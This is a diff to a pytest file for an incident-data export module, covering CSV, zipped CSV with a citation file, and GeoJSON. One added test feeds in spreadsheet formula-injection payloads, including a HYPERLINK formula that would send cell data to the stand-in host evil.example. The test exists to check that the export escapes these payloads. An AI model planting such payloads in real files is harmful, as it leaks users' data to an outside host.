@@ -4,9 +4,12 @@ Regenerate the golden files after an intended change with UPDATE_GOLDEN=1 pytest
 and read the diff before committing it.
 """
 
+import csv
 import io
 import json
 import os
+import re
+import zipfile
 from datetime import date
 from pathlib import Path
 
@@ -52,9 +55,10 @@ def test_geojson_matches_golden(filtered):
     _check_golden(GOLDEN_GEOJSON, export.to_geojson(filtered, GOLDEN_FILTER))
 
 
-def test_csv_reads_cleanly_with_pandas_comment(filtered):
+def test_csv_opens_with_the_header_first(filtered):
     text = export.to_csv(filtered, GOLDEN_FILTER)
-    df = pd.read_csv(io.StringIO(text), comment="#")
+    assert text.startswith("id,title,category,")  # issue 8: no attribution rows above the header
+    df = pd.read_csv(io.StringIO(text))
     assert list(df["id"]) == ["E-01", "E-02", "E-03", "E-05", "E-06"]
     bomb = df.set_index("id").loc["E-02"]
     # quoted text keeps its '#', commas, quotes and line breaks
@@ -72,18 +76,42 @@ def test_csv_reads_cleanly_with_pandas_comment(filtered):
     assert df["fatalities_best"].tolist()[:2] == [5, 10]
 
 
-def test_csv_attribution_block(filtered):
-    text = export.to_csv(filtered, GOLDEN_FILTER)
-    head = [line for line in text.splitlines() if line.startswith("# ")]
-    block = "\n".join(head)
-    assert text.startswith("# ") and len(head) >= 8
-    assert "# filters: dates 2023-07-01 to 2024-01-20" in block
-    assert "# data_date: 2024-02-15" in block
-    assert "# licences: CC BY 4.0; CC0 1.0" in block
-    assert "# datasets: Test fixture" in block
+def unzip(data: bytes) -> dict[str, str]:
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return {name: zf.read(name).decode("utf-8") for name in zf.namelist()}
+
+
+def test_csv_zip_carries_the_attribution_beside_the_csv(filtered):
+    files = unzip(export.to_csv_zip(filtered, GOLDEN_FILTER))
+    assert set(files) == {"pkir-incidents.csv", "CITATION.txt"}
+    assert files["pkir-incidents.csv"] == export.to_csv(filtered, GOLDEN_FILTER)
+    block = files["CITATION.txt"]
+    assert "filters: dates 2023-07-01 to 2024-01-20" in block
+    assert "data_date: 2024-02-15" in block
+    assert "licences:\n  * CC BY 4.0\n  * CC0 1.0" in block
+    assert "datasets:\n  * Test fixture" in block
     assert "Outlet Five" in block
     assert "http" not in block  # the citation is URL-free
     assert "records: 5" in block
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+2", "-3+4", "@SUM(A1:A9)", "a,=1+1", "b;\t=2")
+
+
+def test_attribution_cannot_carry_a_formula(filtered):
+    """Issue 9 item 5: dataset, licence and outlet values reach the attribution; split at , ; tab
+    or | (as a spreadsheet's import may) no piece starts a formula."""
+    hostile = filtered.copy()
+    hostile["dataset"] = [FORMULAS[i % len(FORMULAS)] for i in range(len(hostile))]
+    hostile["licence"] = [FORMULAS[(i + 1) % len(FORMULAS)] for i in range(len(hostile))]
+    hostile["sources"] = [[{"outlet": f, "url": "https://example.org", "date": None}] for f in FORMULAS[: len(hostile)]]
+    files = unzip(export.to_csv_zip(hostile, GOLDEN_FILTER))
+    for line in files["CITATION.txt"].splitlines():
+        for piece in re.split(r"[,;\t|]", line):
+            assert not piece.strip().startswith(("=", "+", "-", "@")), line
+    for row in csv.reader(io.StringIO(files["pkir-incidents.csv"])):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    assert "'=HYPERLINK(" in files["CITATION.txt"]  # shown, not dropped
 
 
 def test_attribution_lists_only_what_is_exported(small):
@@ -120,7 +148,7 @@ def test_geojson_has_attribution_and_round_trips(filtered, tmp_path):
 def test_export_of_nothing_still_carries_attribution(small):
     none = IncidentFilter(keyword="no such word anywhere")
     kept = apply_filter(small, none)
-    text = export.to_csv(kept, none)
-    assert "# records: 0" in text and "# data_date: unknown" in text
-    assert pd.read_csv(io.StringIO(text), comment="#").empty
+    files = unzip(export.to_csv_zip(kept, none))
+    assert "records: 0" in files["CITATION.txt"] and "data_date: unknown" in files["CITATION.txt"]
+    assert pd.read_csv(io.StringIO(files["pkir-incidents.csv"])).empty
     assert json.loads(export.to_geojson(kept, none))["features"] == []
